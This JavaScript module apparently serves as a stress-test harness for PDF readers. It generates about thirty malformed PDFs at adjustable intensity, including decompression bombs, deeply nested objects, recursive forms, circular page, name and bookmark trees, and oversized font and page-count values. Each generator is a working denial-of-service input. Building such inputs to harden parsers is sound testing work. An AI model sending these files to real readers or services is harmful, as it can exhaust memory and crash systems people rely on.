// Ways to make a reader of PDF grow, loop or overflow, after what was found in other readers. Each takes how far to go, from 0 to 1.
import { deflateSync } from 'node:zlib';

export const scaled = (least, most, far) => Math.round(least * (most / least) ** far);
export const stream = (entries, data) =>
  Buffer.concat([Buffer.from(`<< ${entries} /Length ${data.length} >>\nstream\n`), data, Buffer.from('\nendstream')]);

/** Objects from 4 on; 1 to 3 are catalog, pages and the page. */
export function pdf({
  page = '',
  catalog = '',
  content = 'BT /F 10 Tf 9 700 Td (a) Tj ET',
  font,
  objects = [],
  kids = '[3 0 R]',
  count = 1,
}) {
  const bodies = [
    `<< /Type /Catalog /Pages 2 0 R ${catalog} >>`,
    `<< /Type /Pages /Kids ${kids} /Count ${count} >>`,
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /Font << /F 5 0 R >> ${page} >> >>`,
    Buffer.isBuffer(content) ? content : stream('', Buffer.from(content)),
    font ?? '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
    ...objects,
  ];
  const parts = [Buffer.from('%PDF-1.7\n')];
  const offsets = [];
  let at = parts[0].length;
  bodies.forEach((body, i) => {
    const object = Buffer.concat([Buffer.from(`${i + 1} 0 obj\n`), Buffer.from(body), Buffer.from('\nendobj\n')]);
    offsets.push(at);
    at += object.length;
    parts.push(object);
  });
  const rows = offsets.map((offset) => `${String(offset).padStart(10, '0')} 00000 n \n`).join('');
  const size = bodies.length + 1;
  parts.push(
    Buffer.from(
      `xref\n0 ${size}\n0000000000 65535 f \n${rows}trailer << /Size ${size} /Root 1 0 R >>\nstartxref\n${at}\n%%EOF`,
    ),
  );
  return Buffer.concat(parts);
}

const composite = (descendant) => [
  '<< /Type /Font /Subtype /Type0 /BaseFont /X /Encoding /Identity-H /DescendantFonts [6 0 R] /ToUnicode 8 0 R >>',
  `<< /Type /Font /Subtype /CIDFontType2 /BaseFont /X /FontDescriptor 7 0 R ${descendant} >>`,
  '<< /Type /FontDescriptor /FontName /X /Flags 4 /FontBBox [0 0 9 9] >>',
];
const cmap = (body) =>
  stream('', Buffer.from(`begincmap\n1 begincodespacerange <00000000> <ffffffff> endcodespacerange\n${body}\nendcmap`));
const TWO = 'BT /F 10 Tf 9 700 Td <00410042> Tj ET';
const withFont = (descendant, map) => {
  const [font, ...objects] = composite(descendant);
  return pdf({ font, objects: [...objects, cmap(map)], content: TWO });
};

const labelled = (label) =>
  pdf({ catalog: `/PageLabels << /Nums [0 ${label}] >>`, kids: `[${'3 0 R '.repeat(200)}]`, count: 200 });

export const PDF_ATTACKS = {
  'widths-of-a-range': (far) => withFont(`/W [0 ${scaled(70_000, 4_294_967_295, far)} 500]`, ''),
  'widths-far-away': (far) => withFont(`/W [${scaled(70_000, 4_294_967_000, far)} [500 500 500]]`, ''),
  'vertical-metrics-of-a-range': (far) =>
    withFont(`/DW2 [880 -1000] /W2 [0 ${scaled(70_000, 4_294_967_295, far)} 1 2 3]`, ''),
  'map-of-a-range': (far) =>
    withFont(
      '',
      `1 beginbfrange <00000000> <${scaled(65_536, 16_777_215, far).toString(16).padStart(8, '0')}> <0041> endbfrange`,
    ),
  'maps-of-many-ranges': (far) =>
    withFont(
      '',
      Array(scaled(2, 500, far))
        .fill('1 beginbfrange <0000> <ffff> <0041> endbfrange')
        .join('\n'),
    ),
  'stream-that-swells': (far) =>
    pdf({ content: stream('/Filter /FlateDecode', deflateSync(Buffer.alloc(scaled(1e6, 4e8, far), 32))) }),
  'stream-packed-many-times': (far) => {
    let data = Buffer.alloc(scaled(1e6, 1e8, far), 32);
    for (let i = 0; i < 6; i++) data = deflateSync(data);
    return pdf({ content: stream(`/Filter [${'/FlateDecode '.repeat(6)}]`, data) });
  },
  'runs-that-swell': (far) =>
    pdf({ content: stream('/Filter /RunLengthDecode', Buffer.alloc(scaled(1e4, 4e6, far), Buffer.from([129, 32]))) }),
  'predictor-of-wide-rows': (far) =>
    pdf({
      content: stream(
        `/Filter /FlateDecode /DecodeParms << /Predictor 15 /Columns ${scaled(1e4, 2e9, far)} >>`,
        deflateSync(Buffer.alloc(1e5)),
      ),
    }),
  'arrays-in-arrays': (far) => pdf({ page: `/X ${'['.repeat(scaled(100, 300_000, far))}` }),
  'dictionaries-in-dictionaries': (far) => pdf({ page: `/X ${'<< /A '.repeat(scaled(100, 100_000, far))}` }),
  'forms-in-forms': (far) => {
    const form = (next) =>
      stream(
        `/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X ${next} 0 R >> >>`,
        Buffer.from('/X Do /X Do'),
      );
    const levels = scaled(3, 40, far);
    return pdf({
      page: '/XObject << /X 6 0 R >>',
      content: '/X Do',
      objects: Array.from({ length: levels }, (_, i) => form(i === levels - 1 ? 6 : i + 7)),
    });
  },
  'states-never-restored': (far) => pdf({ content: 'q '.repeat(scaled(1000, 3_000_000, far)) }),
  'letters-in-one-place': (far) =>
    pdf({ content: `BT /F 10 Tf 9 700 Td ${'(a) Tj 0 0 Td '.repeat(scaled(1000, 300_000, far))} ET` }),
  'lines-in-one-place': (far) => pdf({ content: '9 9 m 600 9 l S 9 9 m 9 700 l S '.repeat(scaled(500, 100_000, far)) }),
  'a-grid-of-rules': (far) => {
    const count = scaled(30, 600, far);
    const lines = Array.from({ length: count }, (_, i) => `${i} 0 m ${i} ${count} l S 0 ${i} m ${count} ${i} l S`);
    return pdf({ content: lines.join('\n') });
  },
  'pages-that-are-each-other': (far) => pdf({ kids: `[${'2 0 R '.repeat(scaled(1, 1000, far))}3 0 R]`, count: 5 }),
  'more-pages-than-there-are': (far) => pdf({ count: scaled(1000, 2_147_483_647, far) }),
  'one-page-many-times': (far) =>
    pdf({ kids: `[${'3 0 R '.repeat(scaled(100, 30_000, far))}]`, count: scaled(100, 30_000, far) }),
  'names-in-circles': (far) =>
    pdf({
      catalog: '/Names << /EmbeddedFiles 6 0 R >>',
      objects: [`<< /Kids [${'6 0 R '.repeat(scaled(1, 2000, far))}] >>`],
    }),
  'bookmarks-in-circles': (far) =>
    pdf({
      catalog: '/Outlines 6 0 R',
      objects: [
        `<< /First 7 0 R /Last 7 0 R /Count ${scaled(1, 1e9, far)} >>`,
        '<< /Title (a) /Next 7 0 R /First 7 0 R >>',
      ],
    }),
  'pages-counted-in-letters': (far) => labelled(`<< /S /A /St ${scaled(1000, 2_147_483_647, far)} >>`),
  'pages-counted-by-romans': (far) => labelled(`<< /S /R /St ${scaled(1000, 2_147_483_647, far)} >>`),
  'pages-called-at-length': (far) => labelled(`<< /P (${'x'.repeat(scaled(1000, 1_000_000, far))}) >>`),
  'attachments-that-share': (far) => {
    const names = Array.from({ length: scaled(10, 3000, far) }, (_, i) => `(${i}.xml) 6 0 R`).join(' ');
    const data = deflateSync(Buffer.alloc(scaled(1e5, 2e7, far), 32));
    return pdf({
      catalog: `/Names << /EmbeddedFiles << /Names [${names}] >> >>`,
      objects: [
        '<< /Type /Filespec /F (a.xml) /EF << /F 7 0 R >> >>',
        stream('/Type /EmbeddedFile /Filter /FlateDecode', data),
      ],
    });
  },
  'a-page-without-end': (far) =>
    pdf({ content: `1 0 0 1 ${10 ** scaled(3, 300, far)} 0 cm BT /F ${10 ** scaled(2, 200, far)} Tf (a) Tj ET` }),
  'a-word-without-end': (far) => pdf({ content: `BT /F 10 Tf 9 700 Td (${'a'.repeat(scaled(1e4, 2e7, far))}) Tj ET` }),
};
